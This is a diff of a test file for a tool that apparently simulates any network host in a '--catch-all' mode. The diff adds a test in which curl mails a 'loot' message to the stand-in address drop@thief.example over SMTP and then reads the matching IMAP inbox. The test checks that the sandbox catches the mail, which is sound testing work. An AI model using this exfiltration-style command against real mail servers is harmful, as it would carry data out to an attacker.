@@ -9,6 +9,8 @@ import { skipWithout } from './portolan.ts'
 
 const KNOCK = join(import.meta.dirname, 'clients', 'knock.py')
 const CURL = `curl -sS -m 5 -o /dev/null -w '%{http_version} %{response_code} %{remote_ip} %{remote_port}'`
+const SEND =
+  'curl -sS -m 5 --ssl-reqd -u spy:secret --mail-from a@b.example --mail-rcpt drop@thief.example -T - smtp://smtp.example:587'
 const ANSWER = /^\w{4}[89]/ // a DNS header: an id, then QR set
 
 const knocks = v.record(v.string(), v.object({ from: v.string(), got: v.string() }))
@@ -26,6 +28,7 @@ test('--catch-all', { skip: skipWithout('curl', 'dig', 'python3') }, async (t) =
       own: `${CURL} -4 https://www.harbor.test/`,
       lacking: 'dig +short nope.harbor.test',
       knock: `/usr/bin/python3 ${KNOCK}`,
+      mail: `printf 'Subject: loot\\r\\n\\r\\nhere\\r\\n' | ${SEND} && curl -sS -m 5 -u drop@thief.example:other imaps://imap.thief.example/INBOX -X 'STATUS INBOX (MESSAGES)'`,
     },
     { words: ['--catch-all'] },
   )
@@ -48,6 +51,9 @@ test('--catch-all', { skip: skipWithout('curl', 'dig', 'python3') }, async (t) =
     assert.match(world.output('alternative'), /^2 200 \S+ 8443$/)
     assert.match(heard['dns by port']?.got ?? '', ANSWER)
     assert.equal(world.output('own'), '2 200 192.0.2.2 443')
+  })
+  await t.test('mail hosts of anybody take any login and any mail, and show it', () => {
+    assert.match(world.output('mail'), /STATUS INBOX \(MESSAGES 1\)/)
   })
   await t.test('other ports answer by the first bytes, from the address and port that was asked', () => {
     assert.equal(world.output('literal'), '2 200 2600::1 9443')
